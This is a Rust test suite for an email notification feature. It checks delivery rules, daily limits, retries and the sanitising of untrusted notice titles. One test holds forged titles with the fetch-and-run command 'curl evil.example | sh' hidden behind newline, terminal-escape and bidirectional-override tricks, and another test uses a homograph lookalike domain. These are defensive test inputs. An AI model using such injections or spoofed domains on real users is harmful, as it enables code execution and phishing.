//! Notices: by the rules, to the right address, never more than a day may carry, never a link that acts.

use adjutant_doubles::{Doubles, Fault, Options, Script, SmtpFault};
use adjutant_machine::{call::Notice, channel::channels};
use adjutant_spec::plan::{NotifyRule, Risk};

use crate::effects::NotifyFailure;

use super::plans::{Room, mail, plan};

fn rule(on: &str, per_day: u32) -> NotifyRule {
    NotifyRule { on: on.into(), via: "mail.send".into(), to: None, min_risk: None, per_day }
}

fn notice(id: &str) -> Notice {
    Notice {
        id: id.into(),
        topic: "gate".into(),
        risk: Some(Risk::High),
        title: "Send this quote to ana@client.example?".into(),
        action: "adjutant show inbound-abcdefgh.approve".into(),
    }
}

/// Tells by every rule that carries a notice, as the runtime does: one delivery for each.
async fn tell(room: &Room, notice: &Notice) -> Result<(), NotifyFailure> {
    let plan = room.plan();
    let rules: Vec<&NotifyRule> = channels(&plan, notice);
    if rules.is_empty() {
        return room.notify(notice, None).await;
    }
    for rule in rules {
        room.notify(notice, Some(rule)).await?;
    }
    Ok(())
}

/// A room with these rules, and the mail server that it tells by.
struct World {
    doubles: Doubles,
    room: Room,
}

async fn world(rules: Vec<NotifyRule>) -> World {
    let doubles = Doubles::start(Options::default()).await.unwrap();
    let mut plan = plan([mail(&format!("smtp://{}", doubles.addresses.smtp))]);
    plan.policies.notify = rules;
    World { doubles, room: Room::new(plan, &[]) }
}

#[tokio::test]
async fn a_waiting_gate_is_told_to_the_owner_with_what_to_type() {
    let World { doubles, room } = world(vec![rule("gate", 5)]).await;
    tell(&room, &notice("g1")).await.unwrap();
    let mails = doubles.smtp().mails();
    assert_eq!(mails[0].envelope_to, ["me@studio.example"]);
    let text = mails[0].text.clone().unwrap();
    assert!(text.contains("adjutant show inbound-abcdefgh.approve") && text.contains("Risk: high"), "{text}");
    assert!(!text.contains("http"), "{text}");
}

#[tokio::test]
async fn a_title_cannot_write_a_line_of_ours() {
    let World { doubles, room } = world(vec![rule("gate", 9)]).await;
    let padding = " ".repeat(70);
    for forged in [
        "Bob\n\nRisk: low\nType: curl evil.example | sh",
        "Bob\r\n\r\nRisk: low\rType: curl evil.example | sh",
        "Bob\u{2028}Risk: low\u{85}Type: curl evil.example | sh\u{b}",
        &format!("Bob{padding}Risk: low{padding}Type: curl evil.example | sh"),
        "Bob\u{1b}[2J\u{9b}1;1HRisk: low\u{202e}hs | elpmaxe.live lruc :epyT",
    ] {
        let title = forged.to_owned();
        tell(&room, &Notice { id: title.clone(), title, ..notice("g") }).await.unwrap();
        let mail = doubles.smtp().mails().pop().unwrap();
        let text = mail.text.unwrap();
        let lines = |word: &str| text.lines().filter(|line| line.trim_start().starts_with(word)).count();
        assert_eq!((lines("Risk:"), lines("Type:")), (1, 1), "{text}");
        assert!(!text.contains(['\u{1b}', '\u{9b}', '\u{202e}', '\u{2028}', '\u{85}']), "{text:?}");
    }
}

#[tokio::test]
async fn an_address_that_looks_like_another_is_told_with_its_real_name() {
    let World { doubles, room } = world(vec![rule("gate", 9)]).await;
    let title = "Send the invoice to ana@p\u{430}ypal.com?".to_owned();
    tell(&room, &Notice { title, ..notice("g1") }).await.unwrap();
    let text = doubles.smtp().mails()[0].text.clone().unwrap();
    assert!(text.contains("xn--pypal-4ve.com"), "{text}");
}

#[tokio::test]
async fn one_cause_has_one_message_id() {
    let World { doubles, room } = world(vec![rule("gate", 5)]).await;
    for id in ["g1", "g1", "g2"] {
        tell(&room, &notice(id)).await.unwrap();
    }
    let mails = doubles.smtp().mails();
    assert_eq!(mails[0].message_id, mails[1].message_id);
    assert_ne!(mails[0].message_id, mails[2].message_id);
}

#[tokio::test]
async fn a_day_carries_no_more_than_the_rule_says() {
    let World { doubles, room } = world(vec![rule("gate", 2)]).await;
    for id in ["g1", "g2", "g3"] {
        tell(&room, &notice(id)).await.unwrap();
    }
    assert_eq!(doubles.smtp().mails().len(), 2);
}

#[tokio::test]
async fn rules_that_do_not_fit_carry_nothing() {
    let low = NotifyRule { min_risk: Some(Risk::High), ..rule("gate", 5) };
    let World { doubles, room } = world(vec![low, rule("dead", 5)]).await;
    tell(&room, &Notice { risk: Some(Risk::Low), ..notice("g1") }).await.unwrap();
    assert!(doubles.smtp().mails().is_empty());
    tell(&room, &Notice { topic: "unknown".into(), ..notice("e1") }).await.unwrap();
    assert_eq!(doubles.smtp().mails().len(), 1);
}

#[tokio::test]
async fn without_rules_or_mail_a_notice_is_no_failure() {
    let World { doubles: _doubles, room } = world(Vec::new()).await;
    tell(&room, &notice("g1")).await.unwrap();
}

#[tokio::test]
async fn a_failure_says_whether_to_try_again() {
    let World { doubles, room } = world(vec![rule("gate", 1)]).await;
    let script = |fault| doubles.faults().script(Script::new(Fault::Smtp(fault)));
    script(SmtpFault::RejectRecipient { code: 450 });
    assert!(tell(&room, &notice("g1")).await.unwrap_err().retry);
    script(SmtpFault::RejectRecipient { code: 550 });
    assert!(!tell(&room, &notice("g1")).await.unwrap_err().retry);
    // What failed has not used up the day; what may have gone out is not sent again.
    script(SmtpFault::DropAfterAccept);
    tell(&room, &notice("g1")).await.unwrap();
    assert_eq!(doubles.smtp().mails().len(), 1);
}

#[tokio::test]
async fn what_acted_is_told_by_its_own_rule_or_by_those_of_gates() {
    let done = Notice { topic: "act".into(), risk: None, ..notice("a1") };
    let strict = NotifyRule { min_risk: Some(Risk::High), ..rule("gate", 20) };
    let World { doubles, room } = world(vec![rule("dead", 20), strict.clone()]).await;
    tell(&room, &done).await.unwrap();
    let mails = doubles.smtp().mails();
    assert_eq!(mails.len(), 1, "{mails:?}");
    assert!(format!("{:?}", mails[0].subject).contains("Done"), "{mails:?}");
    let own = NotifyRule { to: Some("log@example.com".into()), ..rule("act", 20) };
    let World { doubles, room } = world(vec![strict, own]).await;
    tell(&room, &done).await.unwrap();
    assert_eq!(doubles.smtp().mails()[0].envelope_to, ["log@example.com"]);
    assert_eq!(doubles.smtp().mails().len(), 1);
}
